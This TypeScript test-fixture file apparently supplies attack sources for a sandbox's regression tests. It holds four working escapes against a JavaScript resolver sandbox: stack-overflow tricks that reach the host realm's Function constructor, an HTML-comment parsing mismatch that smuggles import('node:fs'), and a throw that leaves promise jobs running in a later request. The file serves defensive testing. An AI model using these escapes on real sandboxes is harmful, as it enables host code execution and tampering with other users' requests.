// Resolver sources used by ../attempts.test.ts: each attack as the text an attacker would submit.

/**
 * ESCAPE. Recurses towards the stack limit; at every depth it asks V8 for a fresh error's
 * `stack`. V8 formats it through Node's prepareStackTraceCallback (host JavaScript, in the host
 * realm), which calls the realm's Error.prepareStackTrace. At some depth the stack runs out inside
 * that host code: the RangeError is created by the host realm and propagates into resolver code,
 * where a promise executor catches it. Its constructor's constructor is the host's Function.
 * Typed `any` through JSDoc, it passes the static checks (no try, no throw, no loop).
 */
export const stackFormattingEscape = (probe: string) => `import { util } from '@aws-appsync/utils';
export function request(ctx) {
  /** @type {any} */
  const P = Promise;
  /** @type {any} */
  const self = {};
  self.found = [];
  self.host = (e) => e.constructor.constructor(${JSON.stringify('return ' + probe)})();
  self.check = (e) => {
    self.e = e;
    self.found.push(new P(self.tryHost));
  };
  self.tryHost = (res) => res(self.host(self.e));
  self.ignore = () => {};
  self.probe = () => new Error('x').stack;
  self.probeIn = (res) => res(self.probe());
  self.dive = (n) => {
    new P(self.probeIn).catch(self.check);
    return self.dive(n + 1);
  };
  self.start = () => self.dive(0);
  self.keep = (v) => { ctx.stash.host = v; };
  self.report = () => { self.found.forEach((p) => p.then(self.keep, self.ignore)); };
  new P(self.start).catch(self.ignore).then(self.report);
  return 'done';
}
`;

/** The same dive, with the stack running out inside util and console calls instead. */
export const utilOverflow = (call: string) => `import { util } from '@aws-appsync/utils';
export function request(ctx) {
  const P = Promise;
  const self = { realm: 0, host: [] };
  self.check = (e) => { self.e = e; new P(self.tryHost).then(self.keepHost, self.keepRealm); };
  self.tryHost = (res) => res(self.e.constructor.constructor('return typeof process')());
  self.keepHost = (v) => { self.host.push(v); ctx.stash.host = self.host; };
  self.keepRealm = () => { self.realm += 1; ctx.stash.realm = self.realm; };
  self.ignore = () => {};
  self.probeIn = (res) => res(${call});
  self.dive = (n) => { new P(self.probeIn).catch(self.check); return self.dive(n + 1); };
  self.start = () => self.dive(0);
  new P(self.start).catch(self.ignore);
  return 'done';
}
`;

/**
 * ESCAPE (needs the lint's ban on \`--\` to stop it). In a module, acorn reads \`<!--\` as \`< ! --\`,
 * so here it sees a template literal spanning lines 2-3; V8 compiles the body as a script, where
 * \`<!--\` and a line-leading \`-->\` are comments: it sees line 2 as code, an import() the wrapper
 * never saw. Without an import callback, Node rejects with a TypeError of the host realm.
 */
export const htmlCommentImport = `import { util } from '@aws-appsync/utils';
/** @type {any} */
const y = {};
/** @type {any} */
const out = {};
export function request(ctx) {
  /** @type {any} */
  const x = 0;
  // @ts-ignore
  const r = x <!--y[\`
  ; out.p = import('node:fs'); //
  --> \`];
  /** @type {any} */
  const h = {};
  h.realm = (e) => { ctx.stash.error = e && e.name; };
  h.host = (v) => { ctx.stash.host = v; };
  h.probe = (e) => { h.e = e; return new Promise(h.tryHost).then(h.host, h.realm); };
  h.tryHost = (res) => res(h.e.constructor.constructor('return typeof process')());
  if (out.p) out.p.then(h.probe, h.probe);
  ctx.stash.smuggled = out.p !== undefined;
  return r;
}
`;

/**
 * Throws a value that Sandbox's describe() cannot read: describe() throws out of the realm's
 * run(), so evaluateToJson skips draining the realm's promise jobs. In one process they stay
 * queued and run during the next evaluation, with its scope; in a sandbox process the rethrow
 * in sandbox-process.ts ends the process with everything it was running.
 */
export const undescribableThrow = `import { util } from '@aws-appsync/utils';
export function request(ctx) {
  Promise.resolve().then(() => { console.log('attacker job, in a request authorized by ' + util.authType()); util.appendError('planted'); util.http.addResponseHeader('x-planted', '1'); });
  throw new Proxy({}, { getOwnPropertyDescriptor() { throw new Error('undescribable'); }, get() { throw new Error('undescribable'); } });
}
`;
